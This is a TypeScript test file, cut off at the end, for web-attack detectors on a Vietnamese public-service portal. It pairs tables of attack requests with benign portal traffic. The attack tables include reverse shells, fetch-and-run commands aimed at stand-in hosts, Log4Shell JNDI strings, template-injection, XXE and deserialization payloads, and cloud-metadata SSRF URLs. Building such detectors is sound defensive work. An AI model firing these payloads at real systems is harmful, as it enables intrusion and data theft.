/**
 * @module analyze/detectors/others.test
 * Tables of attacks (with evasions) per class and of benign Vietnamese public-service
 * transactions, run through every detector in `otherDetectors`.
 */
import { describe, expect, it } from 'vitest';
import type { AttackClass, Finding, Input, Transaction } from '../contract.js';
import { otherDetectors } from './others.js';
import { walkPath } from './paths.js';
import { classifyHost, parseIPv4 } from './ssrf.js';
import { unnestLookups } from './code-injection.js';

function decode(text: string): string {
  let t = text;
  for (let i = 0; i < 4; i++) {
    let next: string;
    try {
      next = decodeURIComponent(t.replace(/\+/g, ' '));
    } catch {
      next = t;
    }
    if (next === t) break;
    t = next;
  }
  return t.replace(/\u0000/g, '');
}

function input(location: string, raw: string, decoded: string = decode(raw)): Input {
  return { location, raw, decoded };
}

function flattenJson(value: unknown, prefix: string, out: Input[]): void {
  if (typeof value === 'string') out.push(input(`body.${prefix}`, value, value));
  else if (typeof value === 'number') out.push(input(`body.${prefix}`, String(value), String(value)));
  else if (Array.isArray(value)) value.forEach((v, i) => flattenJson(v, `${prefix}[${i}]`, out));
  else if (value && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) flattenJson(v, prefix ? `${prefix}.${k}` : k, out);
}

/** A simple stand-in for the extraction stage: path, query, form/JSON body, headers, cookies. */
function inputsOf(tx: Transaction): Input[] {
  const out: Input[] = [];
  const q = tx.uri.indexOf('?');
  out.push(input('path', q < 0 ? tx.uri : tx.uri.slice(0, q)));
  if (q >= 0)
    for (const pair of tx.uri.slice(q + 1).split('&')) {
      const eq = pair.indexOf('=');
      if (eq < 0) {
        out.push(input('args_names', pair));
        continue;
      }
      out.push(input(`args.${decode(pair.slice(0, eq))}`, pair.slice(eq + 1)));
    }
  for (const [k, v] of Object.entries(tx.headers)) {
    const key = k.toLowerCase();
    if (key === 'cookie') {
      for (const c of v.split(/;\s*/)) {
        const eq = c.indexOf('=');
        if (eq > 0) out.push(input(`cookies.${c.slice(0, eq)}`, c.slice(eq + 1)));
      }
    } else out.push(input(`headers.${key}`, v, v));
  }
  if (tx.body) {
    const ct = (Object.entries(tx.headers).find(([k]) => k.toLowerCase() === 'content-type')?.[1] ?? '').toLowerCase();
    if (ct.includes('json')) {
      try {
        flattenJson(JSON.parse(tx.body) as unknown, '', out);
      } catch {
        out.push(input('body', tx.body, tx.body));
      }
    } else if (ct.includes('x-www-form-urlencoded')) {
      for (const pair of tx.body.split('&')) {
        const eq = pair.indexOf('=');
        if (eq > 0) out.push(input(`body.${decode(pair.slice(0, eq))}`, pair.slice(eq + 1)));
      }
    } else if (ct.includes('multipart')) {
      for (const m of tx.body.matchAll(/name="([^"]+)"(?:; filename="([^"]*)")?\r?\n(?:[^\r\n]+\r?\n)*\r?\n([^]*?)\r?\n--/g)) {
        const field = m[1] ?? '';
        if (m[2] !== undefined) out.push(input(`files.${field}`, m[2], m[2]));
        else out.push(input(`body.${field}`, m[3] ?? '', m[3] ?? ''));
      }
    } else out.push(input('body', tx.body, tx.body));
  }
  return out;
}

let seq = 0;
function tx(uri: string, extra: Partial<Transaction> = {}): Transaction {
  return {
    id: `t${++seq}`,
    method: extra.body ? 'POST' : 'GET',
    uri,
    headers: { Host: 'dichvucong.gov.vn', 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36', ...(extra.headers ?? {}) },
    body: null,
    ...extra,
    ...(extra.headers ? { headers: { Host: 'dichvucong.gov.vn', 'User-Agent': 'Mozilla/5.0 Chrome/131.0', ...extra.headers } } : {}),
  };
}
const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
const json = { 'Content-Type': 'application/json' };
const xml = { 'Content-Type': 'application/xml' };
function multipart(field: string, filename: string, content = 'JVBERi0xLjQK'): Partial<Transaction> {
  return {
    headers: { 'Content-Type': 'multipart/form-data; boundary=----b' },
    body: `------b\r\nContent-Disposition: form-data; name="ma_ho_so"\r\n\r\nHS-2026-001\r\n------b\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n------b--\r\n`,
  };
}

function run(t: Transaction): Finding[] {
  const inputs = inputsOf(t);
  return otherDetectors.flatMap((d) => d.inspect(t, inputs));
}

function top(t: Transaction, cls: AttackClass): Finding | undefined {
  let best: Finding | undefined;
  for (const f of run(t)) if (f.class === cls && (!best || f.score > best.score)) best = f;
  return best;
}

const attacks: Record<Exclude<AttackClass, 'sqli' | 'xss' | 'other'>, Transaction[]> = {
  lfi: [
    tx('/index.php?page=../../../../etc/passwd'),
    tx('/download?file=..%2f..%2f..%2fetc%2fshadow'),
    tx('/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
    tx('/view?doc=....//....//....//etc/passwd'),
    tx('/view?doc=..\\..\\..\\windows\\win.ini'),
    tx('/show?tpl=..;/..;/WEB-INF/web.xml'),
    tx('/read?f=php://filter/convert.base64-encode/resource=index.php'),
    tx('/read?f=file:///etc/passwd'),
    tx('/static/../../../proc/self/environ'),
    tx('/api/file?path=/var/www/html/../../../../.env'),
    tx('/load?name=../../../../../../boot.ini'),
    tx('/x?lang=zip://uploads/a.zip%23shell'),
    tx('/x?template=../../../../../../../../tmp/x'),
    // absolute paths to sensitive files, no traversal
    tx('/download?file=%2Froot%2F.ssh%2Fid_rsa'),
    tx('/download?file=/home/ubuntu/.bash_history'),
    tx('/download?file=/etc/shadow'),
    tx('/download?file=/proc/self/environ'),
    tx('/download?tep=C:%5CWindows%5Cwin.ini'),
    tx('/download?doc=c:/boot.ini'),
    tx('/api/file', { headers: json, body: JSON.stringify({ path: '/usr/local/tomcat/conf/tomcat-users.xml\u0000.jpg' }) }),
    // dots that climb back into a sensitive file inside the path
    tx('/dich-vu-cong/thu-tuc/templates/../../etc/passwd'),
    // traversal in a content-negotiation header
    tx('/', { headers: { 'Accept-Language': '../../../../etc/passwd' } }),
  ],
  rfi: [
    tx('/index.php?page=http://evil.example/shell.txt?'),
    tx('/index.php?file=https://203.0.113.9/r57.txt%00'),
    tx('/index.php?include=http://attacker.ru/c99.php'),
    tx('/main.php?template=ftp://evil.cn/inc/payload.inc?'),
    tx('/index.php?path=//evil.example/x.txt?'),
    tx('/index.php?q=http://evil.example/shell.txt?'),
    tx('/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2B'),
    tx('/index.php?mod=http://198.51.100.7/bot.txt?'),
    tx('/index.php?lang=hTTp://evil.example/lang.txt%3F'),
    // UNC paths: include() on Windows opens them over SMB/WebDAV
    tx('/index.php?page=%5C%5Cevil.example%5Cshare%5Cx.php'),
    tx('/index.php?include=//evil.example/share/x.php'),
    tx('/index.php?file=%5C%5C203.0.113.5@SSL%5Cc$%5Cshell.php'),
    tx('/index.php', { headers: form, body: 'template=%5C%5Cevil.example%2Fwebdav%2Finc.txt%00.pdf' }),
  ],
  rce: [
    tx('/ping?host=127.0.0.1;id'),
    tx('/ping?host=127.0.0.1|cat%20/etc/passwd'),
    tx('/ping?host=8.8.8.8%26%26whoami'),
    tx('/ping?host=`uname%20-a`'),
    tx('/ping?host=$(curl%20http://evil.example/x.sh|sh)'),
    tx('/ping?host=x%0als%20-la%20/'),
    tx('/ping?host=;cat${IFS}/etc/passwd'),
    tx("/ping?host=;w'h'o'am'i"),
    tx('/ping?host=127.0.0.1%7C%7Cwget%20http://203.0.113.5/a%20-O%20/tmp/a'),
    tx('/api/diag', { headers: json, body: JSON.stringify({ ip: '1.1.1.1; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' }) }),
    tx('/cgi-bin/status', { headers: { 'User-Agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' } }),
    tx('/ping?host=127.0.0.1%20%26%20ping%20-n%2010%20127.0.0.1%20%26'),
    tx('/convert?name=a.pdf;{cat,/etc/passwd}'),
    tx('/run?x=127.0.0.1|powershell%20-enc%20SQBFAFgA'),
    tx('/ping?host=1.1.1.1;sleep%2010'),
    tx('/ping?host=x;/usr/bin/id'),
    tx('/ping?host=a;nc%20-e%20/bin/sh%20203.0.113.5%204444'),
    tx('/ping?host=%7C%7C%20c:%5Cwindows%5Csystem32%5Ccmd.exe%20/c%20dir'),
    // Windows commands after a separator
    tx('/ping?host=127.0.0.1%20%26%20type%20C:%5CWindows%5Cwin.ini'),
    tx('/ping?host=127.0.0.1%20%7C%20net%20user'),
    tx('/ping?host=127.0.0.1%20%26%26%20dir%20C:%5C'),
    tx('/ping?host=127.0.0.1;%20ipconfig%20/all'),
    tx('/api/diag', { headers: json, body: JSON.stringify({ ip: '; net user admin1 P@ss123 /add' }) }),
    tx('/convert?name=%24(net%20user)'),
    tx('/ping?host=x|net%20localgroup%20administrators'),
    tx('/ping?host=8.8.8.8%0D%0Adir%20c:%5Cinetpub%5Cwwwroot'),
  ],
  code: [
    tx('/index.php?x=<?php system($_GET["c"]); ?>'),
    tx('/index.php', { headers: form, body: 'data=%40eval(base64_decode(%24_POST%5Bz0%5D))%3B' }),
    tx('/struts/login.action?redirect:%25%7B(%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse)%7D'),
    tx('/api/search?q=${T(java.lang.Runtime).getRuntime().exec("id")}'),
    tx('/hello?name={{7*7}}'),
    tx("/hello?name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    tx('/hello?name=${7*7}'),
    tx('/hello?name=<%25= 7*7 %25>'),
    tx('/hello?name=#set($x=1)'),
    tx('/api', { headers: json, body: JSON.stringify({ fn: "require('child_process').exec('id')" }) }),
    tx('/', { headers: { 'User-Agent': '${jndi:ldap://203.0.113.5:1389/a}' } }),
    tx('/', { headers: { 'X-Api-Version': '${${lower:j}${upper:n}${::-d}i:${lower:l}dap://evil.example/x}' } }),
    tx('/login?user=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}'),
    tx('/', { headers: { Referer: '${jndi:dns://evil.example/r}' } }),
    tx('/hello?name=<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    // PHP complex interpolation: a call inside `${…}` / `{${…}}` runs
    tx('/hello?name=%24%7B%40print(md5(1))%7D'),
    tx('/hello?name=%24%7B%40eval(%24_GET%5Bx%5D)%7D'),
    tx('/hello?name=%7B%24%7Bphpinfo()%7D%7D'),
    tx("/hello?name=%7B%24%7Bsystem('id')%7D%7D"),
    tx('/api', { headers: json, body: JSON.stringify({ ten: '"${print(md5(42))}"' }) }),
  ],
  ssrf: [
    tx('/fetch?url=http://127.0.0.1:8080/admin'),
    tx('/fetch?url=http://localhost/server-status'),
    tx('/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    tx('/fetch?url=http://metadata.google.internal/computeMetadata/v1/'),
    tx('/fetch?url=http://2130706433/'),
    tx('/fetch?url=http://0x7f000001/'),
    tx('/fetch?url=http://017700000001/'),
    tx('/fetch?url=http://[::1]:22/'),
    tx('/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL'),
    tx('/fetch?url=dict://10.0.0.5:11211/stats'),
    tx('/webhook', { headers: json, body: JSON.stringify({ callback: 'http://192.168.1.1/cgi-bin/' }) }),
    tx('/fetch?url=http://evil@127.1/'),
    tx('/fetch?img=http://127.0.0.1.nip.io/'),
    tx('/fetch?url=http://[::ffff:7f00:1]/'),
    tx('/fetch?url=http://0.0.0.0:2375/containers/json'),
    tx('/fetch?url=http://172.17.0.1/'),
    // other schemes a fetcher speaks, to internal hosts
    tx('/fetch?url=ftp://127.0.0.1/x'),
    tx('/fetch?url=ftp%3A%2F%2F10.1.2.3%2Fpub%2F'),
    tx('/fetch?url=ldap://169.254.169.254/'),
    tx('/fetch?url=tftp://[::1]/x'),
    tx('/fetch?url=gopher://0x7f000001:6379/_x'),
    tx('/fetch?url=dict://metadata.google.internal:80/'),
    tx('/fetch?url=ftps://192.168.1.10:990/backup.tar'),
  ],
  xxe: [
    tx('/api/xml', { headers: xml, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }),
    tx('/api/xml', { headers: xml, body: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>' }),
    tx('/soap', { headers: { 'Content-Type': 'text/xml' }, body: '<?xml version="1.0"?>\n<!DOCTYPE foo [\n  <!ENTITY  xxe   SYSTEM  \'php://filter/convert.base64-encode/resource=index.php\'>\n]>\n<foo>&xxe;</foo>' }),
    tx('/api/xml', { headers: xml, body: '<!DOCTYPE r PUBLIC "-//A//B" "http://evil.example/e.dtd"><r/>' }),
    tx('/api/xml', { headers: xml, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x PUBLIC "id" "expect://id">]><r>&x;</r>' }),
    tx('/saml?SAMLResponse=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhosts%22%3E%5D%3E%3Cr%3E%26x%3B%3C%2Fr%3E'),
    tx('/api/xml', { headers: xml, body: '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>' }),
    tx('/api/xml', { headers: xml, body: '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>' }),
    tx('/api/xml', { headers: xml, body: '<!DOCTYPE r [<!ENTITY % d SYSTEM "jar:http://evil/x.jar!/a"> %d;]><r/>' }),
  ],
  deser: [
    tx('/app', { headers: { Cookie: 'session=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ' } }),
    tx('/invoker', { headers: { 'Content-Type': 'application/octet-stream' }, body: 'aced0005737200116a6176612e7574696c2e48617368536574' }),
    tx('/app?data=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
    tx('/app', { headers: { Cookie: 'prefs=a%3A2%3A%7Bi%3A0%3Bs%3A4%3A%22test%22%3Bi%3A1%3BO%3A4%3A%22Evil%22%3A0%3A%7B%7D%7D' } }),
    tx('/api', { headers: { 'Content-Type': 'application/x-python-pickle' }, body: "cos\nsystem\n(S'id'\ntR." }),
    tx('/api', { headers: { 'Content-Type': 'application/x-yaml' }, body: '!!python/object/apply:os.system ["id"]' }),
    tx('/api', { headers: json, body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/a","autoCommit":true}' }),
    tx('/api', { headers: json, body: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}' }),
    tx('/app', { headers: { Cookie: 'state=AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0' } }),
    tx('/api', { headers: json, body: '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}' }),
    tx('/api', { headers: json, body: JSON.stringify({ hoTen: 'A', data: { '@class': 'ch.qos.logback.core.db.DriverManagerConnectionSource', url: "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'" } }) }),
    tx('/api', { headers: json, body: '{"data":{"\\u0040class":"ch.qos.logback.core.db.JNDIConnectionSource","jndiLocation":"ldap://evil/a"}}' }),
    tx('/api', { headers: json, body: JSON.stringify({ a: { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'ldap://evil/a', autoCommit: true } }) }),
    tx('/app', { headers: { Cookie: 'remember_me=Tzo4OiJzdGRDbGFzcyI6MTp7czo1OiJhZG1pbiI7YjoxO30%3D' } }),
  ],
  webshell: [
    tx('/c99.php'),
    tx('/uploads/2026/11/r57.php?cmd=id'),
    tx('/wp-content/uploads/shell.php?cmd=whoami'),
    tx('/images/avatar.aspx?cmd=dir'),
    tx('/media/x.php', { headers: form, body: 'z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D' }),
    tx('/b374k.php'),
    tx('/nop/index.php?cmd=cat%20/etc/passwd'),
    tx('/upload', multipart('file', 'shell.php')),
    tx('/upload', multipart('file', 'avatar.php.jpg')),
    tx('/upload', multipart('file', 'x.phtml')),
    tx('/upload', multipart('file', 'cmd.aspx;.jpg')),
    tx('/upload', multipart('file', '.htaccess')),
    tx('/uploads/files/wso.php'),
  ],
  scanner: [
    tx('/', { headers: { 'User-Agent': 'sqlmap/1.8.4#stable (https://sqlmap.org)' } }),
    tx('/', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' } }),
    tx('/', { headers: { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' } }),
    tx('/', { headers: { 'User-Agent': 'Mozilla/5.0 zgrab/0.x' } }),
    tx('/.git/config'),
    tx('/.env'),
    tx('/actuator/env'),
    tx('/phpmyadmin/index.php'),
    tx('/server-status'),
    tx('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
    tx('/', { headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0 ffuf' } }),
    tx('/', { headers: { 'User-Agent': 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' } }),
    tx('/backup.sql'),
    tx('/', { headers: { 'User-Agent': 'Fuzz Faster U Fool v2.1.0-dev' } }),
    tx('/', { headers: { 'User-Agent': 'feroxbuster/2.10.1' } }),
    tx('/', { headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0 Safari/537.36 Nuclei' } }),
    tx('/nessus_is_probing_you_123456'),
    tx('/acunetix-wvs-test-for-some-inexistent-file'),
    tx('/phxkodjkua.nikto'),
    tx('/tim-kiem?q=testasp.vulnweb.com'),
    tx('/tim-kiem?url=http%3A%2F%2Fsome-inexistent-website.acu%2Fsome_inexistent_file_with_long_name%3F.jpg'),
    tx('/?q=8ab3244e.cgbuz4kl2px9a19nee3d.oastify.com'),
    tx('/api/v1/lien-he', { headers: json, body: JSON.stringify({ email: 'a@c1a2b3.oast.fun', website: 'http://c1a2b3.oast.fun/' }) }),
  ],
};

const vnUa = 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Version/18.1 Mobile/15E148 Safari/604.1 Zalo';
const benign: Transaction[] = [
  tx('/dich-vu-cong/tiep-nhan-ho-so?ma-thu-tuc=1.001612'),
  tx('/tim-kiem?tu-khoa=%C4%91%C4%83ng+k%C3%BD+khai+sinh%3B+k%E1%BA%BFt+h%C3%B4n+%26+ly+h%C3%B4n'),
  tx('/dang-nhap?redirect=https://dichvucong.gov.vn/p/home'),
  tx('/dang-nhap?redirect=https%3A%2F%2Fdichvucong.gov.vn%2Fp%2Fhome%2Fdvc-trang-chu.html'),
  tx('/ho-so/nop', { headers: form, body: 'ho_ten=Nguy%E1%BB%85n+V%C4%83n+A&dia_chi=S%E1%BB%91+12%2C+ng%C3%B5+34%2F5+Ph%E1%BB%91+Hu%E1%BA%BF%2C+H%C3%A0+N%E1%BB%99i&ngay_sinh=25%2F11%2F2026&sdt=0912345678' }),
  tx('/api/v1/ho-so', { headers: json, body: JSON.stringify({ maHoSo: 'HS-2026-000123', hoTen: 'Trần Thị Bình', diaChi: 'Số 12, ngõ 34/5 Phố Huế, Hà Nội', ngayNop: '25/11/2026', ghiChu: 'Nộp lần 2; bổ sung giấy tờ & ảnh chụp' }) }),
  tx('/upload', multipart('tep_dinh_kem', 'CCCD mat truoc.jpg', '/9j/4AAQSkZJRgABAQ')),
  tx('/upload', multipart('tep_dinh_kem', 'Đơn đề nghị cấp phép.pdf')),
  tx('/upload', multipart('tep_dinh_kem', 'to-khai-thue.v2.docx')),
  tx('/tin-tuc/2026/11/huong-dan-nop-ho-so-truc-tuyen.html'),
  tx('/tin-tuc/../tin-tuc/2026'),
  tx('/tim-kiem?q=thu%E1%BA%BF+%7C+ph%C3%AD+tr%C6%B0%E1%BB%9Bc+b%E1%BA%A1'),
  tx('/tim-kiem?q=%22gi%E1%BA%A5y+ph%C3%A9p+l%C3%A1i+xe%22+-+%C4%91%E1%BB%95i+m%E1%BB%9Bi'),
  tx('/tra-cuu?sdt=0912.345.678%3B+024+3825+1234'),
  tx('/tra-cuu?so-cccd=001203004567&ngay-cap=01/07/2021'),
  tx('/portal/page?link=../tin-tuc/2026'),
  tx('/thanh-toan/callback?vnp_Amount=150000&vnp_BankCode=NCB&vnp_OrderInfo=Thanh+toan+le+phi+ho+so+HS001&vnp_ResponseCode=00&vnp_ReturnUrl=https%3A%2F%2Fdichvucong.gov.vn%2Fthanh-toan'),
  tx('/api/dia-gioi?tinh=01&huyen=001&xa=00001'),
  tx('/gop-y', { headers: form, body: 'noi_dung=T%C3%B4i+mu%E1%BB%91n+h%E1%BB%8Fi%3A+th%E1%BB%A7+t%E1%BB%A5c+n%C3%A0y+c%E1%BA%A7n+g%C3%AC%3F+C%E1%BA%A3m+%C6%A1n+%26+ch%C3%BAc+s%E1%BB%A9c+kh%E1%BB%8Fe%21%21' }),
  tx('/gop-y', { headers: form, body: 'noi_dung=H%E1%BB%93+s%C6%A1+c%E1%BB%A7a+t%C3%B4i+(m%C3%A3+HS-001)+b%E1%BB%8B+tr%E1%BA%A3+l%E1%BA%A1i%3B+vui+l%C3%B2ng+ki%E1%BB%83m+tra...+Xin+c%E1%BA%A3m+%C6%A1n' }),
  tx('/static/js/app.3f9a1c.js'),
  tx('/static/css/main.css?v=20261125'),
  tx('/images/logo-quoc-huy.png'),
  tx('/uploads/van-ban/2026/QD-123-UBND.pdf'),
  tx('/api/thong-bao?page=2&size=20&sort=ngayTao,desc'),
  tx('/api/search', { headers: json, body: JSON.stringify({ keyword: 'cấp đổi căn cước / CCCD', filters: { linhVuc: ['Hộ tịch', 'Cư trú'], from: '01/01/2026', to: '25/11/2026' } }) }),
  tx('/dich-vu-cong/thu-tuc?linh-vuc=h%E1%BB%99-t%E1%BB%8Bch&c%E1%BA%A5p=t%E1%BB%89nh'),
  tx('/sso/callback?code=4/0AY0e-g7xYz&state=abc123&redirect_uri=https%3A%2F%2Fdichvucong.gov.vn%2Fsso'),
  tx('/', { headers: { 'User-Agent': vnUa, Referer: 'https://www.google.com/search?q=dich+vu+cong', Cookie: 'JSESSIONID=8F3A2B1C9D; lang=vi; _ga=GA1.1.123.456' } }),
  tx('/api/v1/ho-so/HS-2026-000123/trang-thai', { headers: { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc' } }),
  tx('/tai-lieu?file=huong-dan-su-dung.pdf'),
  tx('/tai-lieu?file=bieu-mau/mau-01-TK.docx'),
  tx('/tim-kiem?q=c%C3%A2u+h%E1%BB%8Fi+%22id%22+l%C3%A0+g%C3%AC'),
  tx('/tim-kiem?q=Q%26A+v%E1%BB%81+thu%E1%BA%BF%3B+ls+ph%C3%AD'),
  tx('/lien-he', { headers: form, body: 'email=nguyen.van.a%40gmail.com&tieu_de=H%E1%BB%8Fi+v%E1%BB%81+%22ph%C3%AD+%26+l%E1%BB%87+ph%C3%AD%22&noi_dung=Xin+ch%C3%A0o%2C+t%C3%B4i+c%E1%BA%A7n+h%E1%BB%97+tr%E1%BB%A3+%3A-%29' }),
  tx('/share?url=https://baochinhphu.vn/tin-tuc-123.htm'),
  tx('/share?url=https%3A%2F%2Fwww.facebook.com%2Fsharer%2Fsharer.php%3Fu%3Dhttps%3A%2F%2Fdichvucong.gov.vn'),
  tx('/api/v1/thong-ke', { headers: json, body: JSON.stringify({ data: [{ thang: '11/2026', soHoSo: 1234, tiLe: 98.5 }], template: '{tinh}-{huyen}' }) }),
  tx('/webhook/zalo', { headers: json, body: JSON.stringify({ event: 'user_send_text', message: { text: 'Cho tôi hỏi lệ phí làm hộ chiếu là bao nhiêu ạ? 200.000đ | 400.000đ?' } }) }),
  tx('/api/xml/ket-qua', { headers: xml, body: '<?xml version="1.0" encoding="UTF-8"?><HoSo><MaHoSo>HS001</MaHoSo><HoTen>Lê Văn C</HoTen><DiaChi>Số 5 &amp; 7, Phường Bến Nghé</DiaChi></HoSo>' }),
  tx('/wp-content/themes/portal/style.css'),
  tx('/api/tra-cuu?bien-so=30A-123.45&loai=oto'),
  tx('/tim-kiem?q=k%E1%BA%BFt+qu%E1%BA%A3+(2025-2026)+%26%26+h%E1%BB%8Dc+b%E1%BB%95ng'),
  tx('/ho-so?ghi-chu=l%C3%BAc+8h30%3B+ng%C3%A0y+25%2F11%3B+ph%C3%B2ng+1.05'),
  tx('/dang-ky?ten-dang-nhap=cat.nguyen&mat-khau=P%40ss%3Bw0rd%7C2026'),
  tx('/api/map?center=21.0285,105.8542&zoom=15'),
  tx('/tim-kiem?q=echo+c%E1%BB%A7a+h%E1%BB%87+th%E1%BB%91ng'),
  tx('/tim-kiem?q=h%C6%B0%E1%BB%9Bng+d%E1%BA%ABn+ping+m%E1%BA%A1ng'),
  tx('/api/lich-hen', { headers: json, body: JSON.stringify({ gio: '08:00-11:30', ngay: '2026-11-25', ghiChu: 'Mang theo CCCD & sổ hộ khẩu (bản sao); ảnh 3x4' }) }),
  tx('/tin-tuc?tag=c%C3%B4ng-ngh%E1%BB%87+%7C+AI&page=3'),
  tx('/proxy/image?src=https%3A%2F%2Fcdn.dichvucong.gov.vn%2Fanh%2Fbanner.jpg'),
  tx('/tim-kiem?q=a%7Cb&sort=ngayTao,desc'),
  tx('/tim-kiem?q=cat+%26+dog'),
  tx('/gop-y', { headers: form, body: 'noi_dung=T%C3%B4i+%C4%91%C3%A3+n%E1%BB%99p%3B+sleep+well&ky_hieu=AT%26T%3B+echo' }),
  tx('/tim-kiem?q=%24%7Bname%7D+%7B%7Bten%7D%7D+%23%7Bid%7D'),
  tx('/tim-kiem?q=C%23+%26+.NET%3B+Java&loai=more+%7C+less'),
  tx('/tim-kiem?q=h%E1%BB%8Fi%3A+%22system(%22+l%C3%A0+g%C3%AC'),
  tx('/tim-kiem?q=b%E1%BB%99+h%E1%BB%93+s%C6%A1+1%3B+2%3B+3+%26+4&ip=127.0.0.1'),
  tx('/bao-cao?ky=Q3%2F2026&don-vi=S%E1%BB%9F+T%C6%B0+ph%C3%A1p+%2F+Ph%C3%B2ng+H%E1%BB%99+t%E1%BB%8Bch'),
  // near misses of the gaps closed in November 2026
  tx('/ho-so/nop', { headers: form, body: 'tieu_de=C%3A%5CUsers%5CLan%5CDocuments%5C%C4%90%C6%A1n+xin+c%E1%BA%A5p+ph%C3%A9p.docx&ghi_chu=B%E1%BA%A3n+g%E1%BB%91c+%E1%BB%9F+D%3A%5CHoSo%5C2026' }),
  tx('/tai-lieu?file=C%3A%5CUsers%5CLan%5CDocuments%5Choso.pdf'),
  tx('/tai-lieu?file=%5C%5Cfileserver%5Cshare%5Cbieu-mau.pdf'),
  tx('/ho-so/nop', { headers: form, body: 'tai_lieu=%5C%5Cfileserver%5Cshare%5CB%C3%A1o+c%C3%A1o+2026.docx' }),
  tx('/tai-lieu?path=/uploads/2026/huong-dan-web-config.pdf'),
  tx('/tai-lieu?file=/uploads/2026/id_rsa-la-gi.pdf'),
  tx('/tim-kiem?q=net+user'),
  tx('/tim-kiem?q=l%E1%BB%87nh+net+user+l%C3%A0+g%C3%AC'),
  tx('/tim-kiem?q=c%C3%A1ch+d%C3%B9ng+l%E1%BB%87nh+%22dir+C%3A%5C%22+trong+Windows'),
  tx('/tim-kiem?q=ipconfig+%2Fall+kh%C3%B4ng+ch%E1%BA%A1y'),
  tx('/gop-y', { headers: form, body: 'noi_dung=Mang+theo+CCCD+%26+h%E1%BB%99+chi%E1%BA%BFu%3B+type+A+ho%E1%BA%B7c+B%3B+net+user+guide+for+beginners' }),
  tx('/api/mau-tin', { headers: json, body: JSON.stringify({ template: 'Xin chào ${hoTen}, hồ sơ ${maHoSo} đã ${trangThai(1)}' }) }),
  tx('/share?url=ftp%3A%2F%2Fftp.dichvucong.gov.vn%2Fpub%2Fbieu-mau.pdf'),
  tx('/share?url=ftp%3A%2F%2F203.113.1.5%2Fpub%2Fvan-ban.pdf'),
  tx('/api/v1/ho-so', { headers: json, body: JSON.stringify({ '@class': 'vn.gov.dichvucong.HoSo', maHoSo: 'HS-2026-001' }) }),
  tx('/', { headers: { 'Accept-Language': 'vi-VN,vi;q=0.9,en-US;q=0.8,en;q=0.7', Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' } }),
  tx('/tim-kiem?q=%22delete+from%22+ngh%C4%A9a+l%C3%A0+g%C3%AC'),
];

describe('other detectors: attack tables', () => {
  for (const [cls, list] of Object.entries(attacks) as [AttackClass, Transaction[]][]) {
    it(`${cls}: has ≥ 8 attacks`, () => expect(list.length).toBeGreaterThanOrEqual(8));
    list.forEach((t) => {
      it(`${cls}: ${t.method} ${t.uri.slice(0, 80)} ${t.body ? t.body.slice(0, 40) : ''} ${JSON.stringify(t.headers).slice(0, 0)}`, () => {
        const want: AttackClass = cls === 'rce' && /\(\) \{/.test(JSON.stringify(t.headers)) ? 'rce' : cls;
        const f = top(t, want);
        expect(f, JSON.stringify(run(t))).toBeDefined();
        expect(f?.score ?? 0).toBeGreaterThanOrEqual(5);
        expect(f?.decoded.length ?? 0).toBeLessThanOrEqual(256);
        expect(f?.reason.startsWith(`${want}:`)).toBe(true);
      });
    });
  }
});

describe('other detectors: benign Vietnamese portal traffic', () => {
  it('has ≥ 40 benign transactions', () => expect(benign.length).toBeGreaterThanOrEqual(40));
  benign.forEach((t) => {
    it(`quiet: ${t.method} ${t.uri.slice(0, 90)} ${t.body ? t.body.slice(0, 40) : ''}`, () => {
      const loud = run(t).filter((f) => f.score >= 5);
